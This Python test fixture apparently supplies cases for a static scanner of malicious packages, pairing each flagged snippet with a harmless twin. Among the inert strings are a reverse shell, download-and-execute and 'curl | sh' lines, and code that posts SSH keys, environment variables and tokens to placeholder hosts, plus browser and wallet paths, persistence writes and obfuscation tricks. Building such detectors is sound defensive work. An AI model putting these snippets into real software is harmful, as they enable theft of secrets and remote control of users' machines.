"""For each static detector what it matches, and an honest twin that it does not.

Everything is inert text that is read and never run; hosts are of TEST-NET or end in .test or .invalid,
but for names of services that a detector knows, none of which is ever contacted.
"""

from __future__ import annotations

from dataclasses import dataclass

HOST = "http://reenact.invalid/x"
COMMAND_CLASS = """
from setuptools import setup
from setuptools.command.install import install
{head}
class Act(install):
    def run(self):
        {act}
        install.run(self)
setup(name="reenact", cmdclass={{"install": Act}})
"""


def act(line: str, head: str = "") -> str:
    """A setup.py whose install command acts."""
    return COMMAND_CLASS.format(head=head, act=line)


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """`match` in `path` is found with `reach`; `twin` in the same place is not."""

    id: str
    match: str | bytes
    twin: str | bytes
    reach: str = "build"
    path: str = "setup.py"


SHELL = "import os, pty, socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\n"
FETCH = f"import urllib.request\nd = urllib.request.urlopen('{HOST}').read()\n"
STORES = "a = '/Google/Chrome/User Data'\nb = '/discord/Local Storage/leveldb'\nc = '/Exodus/exodus.wallet'\n"
BLOB = "QUFB" * 300

CASES: tuple[Case, ...] = (
    Case(
        id="static-reverse-shell",
        match=SHELL + "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
        twin="import pty\npty.spawn('/bin/true')\n",
    ),
    Case(
        id="static-remote-command",
        match=SHELL + "os.system(s.recv(100).decode())\n",
        twin=SHELL + "print(s.recv(100))\nos.system('make')\n",
    ),
    Case(
        id="static-fetched-command",
        match=FETCH + "import os\nos.system('tool ' + d.decode())\n",
        twin=FETCH + "import os\nos.system('tool')\n",
    ),
    Case(
        id="static-download-exec",
        match=FETCH + "exec(d)\n",
        twin="exec(open('version.py').read())\n",
    ),
    Case(
        id="static-download-run",
        match=FETCH
        + "import subprocess\np = '/tmp/tool'\nopen(p, 'wb').write(d)\nsubprocess.run([p])\n",
        twin=FETCH
        + "import subprocess\np = '/tmp/data'\nopen(p, 'wb').write(d)\nsubprocess.run(['make'])\n",
    ),
    Case(
        id="static-written-run",
        match=(
            "import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\n"
            "t.write(b'import socket; print(1)')\nos.system('python ' + t.name)\n"
        ),
        twin=(
            "import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\n"
            "t.write(b'int main;')\nos.system('cc ' + t.name)\n"
        ),
    ),
    Case(
        id="static-decode-exec",
        match="import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        twin="import base64\nICON = base64.b64decode('cHJpbnQoMSk=')\nexec('x = 1')\n",
    ),
    Case(
        id="static-secret-sent",
        match=(
            "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            f"requests.post('{HOST}', data=k)\n"
        ),
        twin=f"import requests\nk = open('README').read()\nrequests.post('{HOST}', data=k)\n",
        reach="import",
        path="reenact/__init__.py",
    ),
    Case(
        id="static-environment-sent",
        match=f"import os, requests\nrequests.post('{HOST}', json=dict(os.environ))\n",
        twin="import os, requests\nrequests.post(os.environ['REENACT_URL'], json=1)\n",
    ),
    Case(
        id="static-facts-sent",
        match=f"import socket, requests\nd = {{'h': socket.gethostname()}}\nrequests.get('{HOST}', params=d)\n",
        twin="import socket\nNAME = socket.gethostname()\nADDRESS = socket.gethostbyname(NAME)\n",
    ),
    Case(
        id="static-token-sent",
        match=f"import os, requests\nrequests.get('{HOST}', headers={{'A': os.environ['API_TOKEN']}})\n",
        twin=f"import os, requests\nrequests.get('{HOST}', headers={{'A': os.environ['LANG']}})\n",
    ),
    Case(
        id="static-screen-sent",
        match=f"import requests\nfrom PIL import ImageGrab\nrequests.post('{HOST}', data=ImageGrab.grab())\n",
        twin="from PIL import ImageGrab\nImageGrab.grab().save('x.png')\n",
    ),
    Case(
        id="static-network",
        match=FETCH,
        twin="import urllib.request\ndef fetch():\n    return urllib.request.urlopen('x')\n",
    ),
    Case(
        id="static-process",
        match="import subprocess\nsubprocess.run(['git', 'describe'])\n",
        twin="import subprocess\ndef describe():\n    subprocess.run(['git', 'describe'])\n",
    ),
    Case(
        id="static-command",
        match="import os\nos.system('curl http://reenact.invalid/x | sh')\n",
        twin="import os\nos.system('curl -O http://reenact.invalid/x.tar.gz')\n",
    ),
    Case(
        id="static-odd-command",
        match="import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'x'])\n",
        twin="import subprocess, sys\nsubprocess.call([sys.executable, 'generate.py'])\n",
    ),
    Case(
        id="static-python-child",
        match="import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import reenact_b'])\n",
        twin="import subprocess, sys\nsubprocess.check_output([sys.executable, '-c', 'print(1)'])\n",
        reach="import",
        path="reenact/__init__.py",
    ),
    Case(
        id="static-install-network",
        match=act("urllib.request.urlopen('http://reenact.invalid')", "import urllib.request"),
        twin=act("print('done')", "import urllib.request"),
    ),
    Case(
        id="static-install-process",
        match=act("os.system('make')", "import os"),
        twin=act("os.makedirs('x')", "import os"),
    ),
    Case(
        id="static-hidden-name",
        match="import os\ngetattr(os, 'sys' + 'tem')('make')\n",
        twin="import os\ngetattr(os, 'system')('make')\n",
    ),
    Case(
        id="static-persistence",
        match="import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n",
        twin="import os\nopen(os.path.expanduser('~/.bashrc')).read()\n",
    ),
    Case(
        id="static-site-write",
        match="import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('x')\n",
        twin="import site\nopen('x.txt', 'w').write(str(site.getsitepackages()))\n",
    ),
    Case(
        id="static-secret-read",
        match="import os\nopen(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))\n",
        twin="import os\nPATH = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n",
    ),
    Case(
        id="static-collector",
        match="import requests\n" + STORES,
        twin="import requests\na = '/Google/Chrome/User Data'\n",
        reach="import",
        path="reenact/__init__.py",
    ),
    Case(
        id="static-memory-code",
        match="import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 9, 1, 64)\n",
        twin="import ctypes\np = ctypes.windll.kernel32.GetConsoleMode(0)\n",
        reach="import",
        path="reenact/__init__.py",
    ),
    Case(
        id="static-exfiltration-host",
        match="import requests\nrequests.get('http://x.oastify.com')\n",
        twin="import requests\nrequests.get('http://reenact.invalid')\n",
    ),
    Case(
        id="static-chat-token",
        match=f"import requests\nrequests.post('https://discord.com/api/webhooks/{'1' * 18}/{'a' * 60}')\n",
        twin="import requests\nrequests.post('https://discord.com/api/webhooks/' + ID)\n",
    ),
    Case(
        id="static-doubtful-host",
        match="import requests\nrequests.get('http://203.0.113.9/x')\n",
        twin="import requests\nrequests.get('http://127.0.0.1/x')\n",
    ),
    Case(
        id="static-network-process",
        match=FETCH + "import os\nos.system('make')\n",
        twin=FETCH + "import os\ndef build():\n    os.system('make')\n",
        reach="import",
        path="reenact/__init__.py",
    ),
    Case(
        id="static-stealer",
        match=(
            "import os, requests\ndef go():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            "    requests.post('https://x.oastify.com', data=k)\n"
        ),
        twin=(
            "import os, requests\ndef go():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            "    requests.post('https://reenact.invalid', data=k)\n"
        ),
        reach="call",
        path="reenact/__init__.py",
    ),
    Case(
        id="static-dropper",
        match=(
            "import os, requests\ndef go():\n    r = requests.get('http://reenact.invalid/t.exe')\n"
            "    open('tool.exe', 'wb').write(r.content)\n    os.system('tool.exe')\n"
        ),
        twin=(
            "import os, requests\ndef go(url):\n    r = requests.get(url)\n"
            "    open('tool.bin', 'wb').write(r.content)\n    os.system('tool.bin')\n"
        ),
        reach="call",
        path="reenact/__init__.py",
    ),
    Case(
        id="static-far-right",
        match="x = 1;" + " " * 200 + "import os; os.system('true')\n",
        twin="x = 1" + " " * 200 + "# a comment about import\n",
    ),
    Case(
        id="static-invisible",
        match="x = 'a\u202eb'  # exec(1)\n",
        twin="x = '\U0001f469\u200d\U0001f4bb'  # exec(1)\n",
    ),
    Case(
        id="static-homoglyph",
        match="\U0001d41e\U0001d431\U0001d41e\U0001d41c('1')\nexec('1')\n",
        twin="gr\u00f6\u00dfe = 1\nexec('1')\n",
    ),
    Case(
        id="static-obfuscator",
        match="exec('1')\n" + "".join(f"lIlIlIlI{'I' * n}l = 1\n" for n in range(12)),
        twin="exec('1')\n" + "".join(f"value_{n} = 0x{n:04x}\n" for n in range(12)),
    ),
    Case(
        id="static-protector",
        match="__pyarmor__(__name__, __file__, b'x')\n",
        twin="import armor\narmor.exec('x')\n",
    ),
    Case(
        id="static-escape-wall",
        match="exec('1')\nx = '" + "\\x41" * 300 + "'\n",
        twin="x = '" + "\\x41" * 300 + "'\n",
    ),
    Case(
        id="static-blob",
        match=f"import base64, os\nx = base64.b64decode('{BLOB}')\nos.system('make')\n",
        twin=f"ICON = '{BLOB}'\nimport os\nos.system('make')\n",
    ),
    Case(
        id="static-deep-nesting",
        match="exec(" + "(" * 300 + ")" * 300 + ")\n",
        twin="exec(" + "(" * 20 + "'1'" + ")" * 20 + ")\n",
    ),
    Case(
        id="static-packed-line",
        match=";".join(["x = 1"] * 15) + "; exec('1')\n",
        twin="\n".join(["x = 1"] * 15) + "\nexec('1')\n",
    ),
    Case(
        id="static-broken-source",
        match="print 'old'\nimport urllib2, os\nos.system(urllib2.urlopen('x').read())\n",
        twin="print 'old'\nimport os\nprint os.system\n",
    ),
    Case(
        id="static-start-dynamic",
        match="import os; exec(__import__('base64').b64decode('cGFzcw=='))\n",
        twin="import sys; exec('try: import reenact\\nexcept ImportError: pass')\n",
        reach="start",
        path="reenact.pth",
    ),
)
"""Hulls and probe versions are in `test_packaging_signs.py`: they are about more than one file."""
